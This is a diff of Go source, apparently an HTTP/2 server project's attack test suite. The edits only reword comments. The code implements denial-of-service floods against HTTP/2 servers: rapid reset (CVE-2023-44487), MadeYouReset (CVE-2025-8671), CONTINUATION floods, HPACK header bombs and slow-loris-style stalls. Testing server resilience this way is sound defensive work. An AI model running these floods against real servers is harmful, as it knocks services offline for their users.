@@ -9,7 +9,7 @@ import (
 	"github.com/filohttp/filo/internal/http2"
 )
 
-// The paths that attacks request.
+// Attacks request these paths.
 const (
 	pathQuick  = "/quick"
 	pathLarge  = "/large"
@@ -28,11 +28,11 @@ const (
 const (
 	// many is how many streams an attack keeps open on a connection: a number that all servers allow.
 	many = 100
-	// unlimited lets an attack open streams without waiting for the end of others.
+	// unlimited lets an attack open streams without waiting for earlier streams to end.
 	unlimited = 1 << 30
 )
 
-// head returns the field block of a request, without use of the server's table.
+// head returns the field block of a request, which neither uses nor changes HPACK's dynamic table.
 func (c *conn) head(method, path string) []byte {
 	b := appendField(nil, ":method", method)
 	b = appendField(b, ":scheme", c.scheme)
@@ -40,10 +40,10 @@ func (c *conn) head(method, path string) []byte {
 	return appendField(b, ":authority", c.host)
 }
 
-// rounds appends a round of a flood. id is 1 for the first one, 3 for the next and so on, as streams are numbered.
+// rounds appends the frames of one round of a flood. id is 1 in the first round, 3 in the next and so on, so it can be the number of a new stream.
 type rounds func(b []byte, id uint32) []byte
 
-// flood sends rounds as fast as the server takes them.
+// flood returns an attack that sends rounds as fast as the server reads them.
 func flood(begin func(c *conn) rounds) func(*conn) {
 	return func(c *conn) {
 		round := begin(c)
@@ -59,7 +59,7 @@ func flood(begin func(c *conn) rounds) func(*conn) {
 	}
 }
 
-// each is a flood of requests, each followed by frames that misuse its stream.
+// each returns a flood of requests. After each request, misuse appends frames that misuse its stream.
 func each(method, path, more string, endStream bool, misuse rounds) func(*conn) {
 	return flood(func(c *conn) rounds {
 		block := append(c.head(method, path), more...)
@@ -67,12 +67,12 @@ func each(method, path, more string, endStream bool, misuse rounds) func(*conn) 
 	})
 }
 
-// always is a flood of the same frames.
+// always returns a flood that repeats the same frames.
 func always(frames []byte) func(*conn) {
 	return flood(func(*conn) rounds { return func(b []byte, _ uint32) []byte { return append(b, frames...) } })
 }
 
-// onFirst is a flood on one stream, which is a request whose body never comes.
+// onFirst returns a flood on stream 1, after a request whose body never arrives.
 func onFirst(round rounds) func(*conn) {
 	return flood(func(c *conn) rounds {
 		block := c.head(post, pathBody)
@@ -85,8 +85,8 @@ func onFirst(round rounds) func(*conn) {
 	})
 }
 
-// continued is a flood of CONTINUATION frames. The block starts in HEADERS, with a request's fields and then begin. Each CONTINUATION after
-// that has piece.
+// continued returns a flood of CONTINUATION frames. The field block starts in HEADERS, with a request's fields and then begin. Each
+// CONTINUATION after that holds piece.
 func continued(begin, piece string) func(*conn) {
 	return flood(func(c *conn) rounds {
 		c.mute()
@@ -100,8 +100,8 @@ func continued(begin, piece string) func(*conn) {
 	})
 }
 
-// bomb opens requests whose heads repeat one field 15,000 times, each time by a single byte, index, and keeps them open. The first field
-// enters the table.
+// bomb returns an attack that opens requests and keeps them open. Each head repeats one field 15,000 times, and index encodes the field in a
+// single byte. If first isn't "", the field is not in the static table: one earlier request adds it to the dynamic table.
 func bomb(first string, index byte) func(*conn) {
 	return func(c *conn) {
 		block := c.head(post, pathBody)
@@ -119,13 +119,13 @@ func bomb(first string, index byte) func(*conn) {
 	}
 }
 
-// newest is how a field block refers to the newest entry of the table (RFC 7541, sections 2.3.3 and 6.1).
+// newest refers to the newest entry of the dynamic table (RFC 7541, sections 2.3.3 and 6.1).
 const newest = 0x80 | 62
 
-// emptyCookie is an empty cookie's entry in the static table (RFC 7541, appendix A).
+// emptyCookie refers to the static table's entry for an empty cookie (RFC 7541, appendix A).
 const emptyCookie = 0x80 | 32
 
-// running resets streams while their handlers run.
+// running returns an attack that resets streams while their handlers run.
 func running(path string) func(*conn) {
 	return func(c *conn) {
 		for c.openMany(get, path, "", true) && c.sleep(2*time.Millisecond) {
@@ -141,7 +141,7 @@ func running(path string) func(*conn) {
 	}
 }
 
-// openMany opens many streams, and reports false if nothing can be sent any more.
+// openMany opens many streams, and returns false once sending is impossible.
 func (c *conn) openMany(method, path, more string, endStream bool) bool {
 	block := append(c.head(method, path), more...)
 	for range many {
@@ -152,7 +152,7 @@ func (c *conn) openMany(method, path, more string, endStream bool) bool {
 	return true
 }
 
-// takes opens many streams and keeps them open: at intervals it sends what next appends for each of them.
+// takes returns an attack that opens many streams and keeps them open. At intervals, it sends the frames that next appends for each stream.
 func takes(method, path, more string, endStream bool, every time.Duration, next rounds) func(*conn) {
 	return func(c *conn) {
 		if c.openMany(method, path, more, endStream) {
@@ -163,13 +163,13 @@ func takes(method, path, more string, endStream bool, every time.Duration, next 
 
 func nothing(b []byte, _ uint32) []byte { return b }
 
-// byteOfWindow lets the server send another byte on a stream.
+// byteOfWindow appends a WINDOW_UPDATE that lets the server send another byte on a stream.
 func byteOfWindow(b []byte, id uint32) []byte { return http2.AppendWindowUpdate(b, id, 1) }
 
-// byteOfBody sends another byte of a request's body.
+// byteOfBody appends DATA with another byte of a request's body.
 func byteOfBody(b []byte, id uint32) []byte { return frame(b, http2.FrameData, 0, id, "a") }
 
-// slowBlock sends a head that never ends, a CONTINUATION of one byte each second.
+// slowBlock sends a head that never ends: each second it sends a CONTINUATION of one byte.
 func slowBlock(c *conn) {
 	ok := c.mute() && c.send(frame(nil, http2.FrameHeaders, http2.FlagEndStream, 1, string(c.head(get, pathQuick))+openValue))
 	for ok {
@@ -177,7 +177,7 @@ func slowBlock(c *conn) {
 	}
 }
 
-// slowFrameLen is more than slowFrame sends in an hour.
+// slowFrameLen is the announced length of slowFrame's frame, more bytes than slowFrame sends in an hour.
 const slowFrameLen = 10_000
 
 // slowFrame sends a HEADERS frame that never ends, one byte each second.
@@ -189,7 +189,8 @@ func slowFrame(c *conn) {
 	}
 }
 
-// changing changes a setting continually. Requests, if there are any, must be answered in between.
+// changing returns an attack that sends the settings in turn, over and over. If requests is true, it sends a request after each SETTINGS, and
+// leaves at most 50 of them unanswered.
 func changing(requests bool, settings ...setting) func(*conn) {
 	return func(c *conn) {
 		block := c.head(get, pathQuick)
@@ -208,8 +209,8 @@ func changing(requests bool, settings ...setting) func(*conn) {
 	}
 }
 
-// unread requests large answers and, now and then, something that shows whether the connection still exists: an attacker who never reads
-// has no other way to learn that.
+// unread requests large answers and never reads them. It sends a PING at intervals, because only a failed write shows an attacker who never
+// reads that the connection has ended.
 func unread(c *conn) {
 	shrinkReadBuffer(c.nc)
 	c.send(http2.AppendWindowUpdate(nil, 0, 1<<30))
@@ -219,7 +220,7 @@ func unread(c *conn) {
 	}
 }
 
-// politely sends requests at intervals, each with these further bytes in its head.
+// politely returns a client that sends requests at intervals. more is appended to each field block.
 func politely(more string, interval time.Duration) func(*conn) {
 	return func(c *conn) {
 		block := append(c.head(get, pathQuick), more...)
@@ -237,19 +238,19 @@ func frame(b []byte, kind http2.FrameType, flags http2.Flags, id uint32, payload
 
 func uint32Of(v uint32) string { return string(binary.BigEndian.AppendUint32(nil, v)) }
 
-// openValue begins a field whose value takes a quarter of an hour if the client sends one byte each second.
+// openValue begins a field with a value of 1,000 bytes. At one byte each second, the value takes a quarter of an hour.
 var openValue = string(appendLength([]byte("\x00\x01x"), 1000))
 
-// oneByteField is "accept-encoding: gzip, deflate" of the static table (RFC 7541, appendix A).
+// oneByteField is a whole field in one byte: "accept-encoding: gzip, deflate" of the static table (RFC 7541, appendix A).
 const oneByteField = "\x90"
 
 // fieldOf16KB is a field that fills a frame.
 var fieldOf16KB = string(appendField(nil, "x", strings.Repeat("a", 16_000)))
 
-// crumbs are the cookies of a browser that sends 90 of them, each as a field of its own (RFC 9113, section 8.2.3).
+// crumbs are 90 cookies, each in a separate field, as a browser may send them (RFC 9113, section 8.2.3).
 var crumbs = strings.Repeat(string(appendField(nil, "cookie", "session=0123456789abcdef")), 90)
 
-// length announces a body.
+// length returns a content-length field, encoded for a field block.
 func length(n string) string { return string(appendField(nil, "content-length", n)) }
 
 const megabytes = 1 << 20
@@ -262,7 +263,7 @@ func Attacks() []*Attack {
 		{Name: "rapid-reset", About: "requests that are reset at once, CVE-2023-44487",
 			run: each(get, pathQuick, "", true, func(b []byte, id uint32) []byte { return http2.AppendReset(b, id, http2.Cancel) })},
 
-		// The server is made to reset the streams: MadeYouReset, CVE-2025-8671.
+		// These attacks make the server reset the streams: MadeYouReset, CVE-2025-8671.
 		{Name: "made-you-reset-window-0", About: "WINDOW_UPDATE of 0 on each stream, CVE-2025-8671",
 			run: each(get, pathWait5, "", true, func(b []byte, id uint32) []byte { return http2.AppendWindowUpdate(b, id, 0) })},
 		{Name: "made-you-reset-window-over", About: "a window over 2^31-1 on each stream, CVE-2025-8671",
@@ -395,7 +396,7 @@ func Attacks() []*Attack {
 			run: takes(post, pathBody, length("1000000"), false, time.Second, byteOfBody)},
 		{Name: "slow-block", About: "heads of a CONTINUATION of one byte each second", Want: TimesOut, Conns: many, run: slowBlock},
 		{Name: "slow-frame", About: "HEADERS of a byte each second", Want: TimesOut, Conns: many, run: slowFrame},
-		// 10 KB for each request
+		// Growth allows 10 KB for each request.
 		{Name: "half-open", About: "100,000 requests whose bodies never come", Want: TimesOut, Conns: 1000, Growth: 1024 * megabytes,
 			run: takes(post, pathBody, length("1000000"), false, time.Second, nothing)},
 		{Name: "unacked", About: "the server's SETTINGS are never acknowledged", Want: TimesOut, manner: manner{unacked: true},
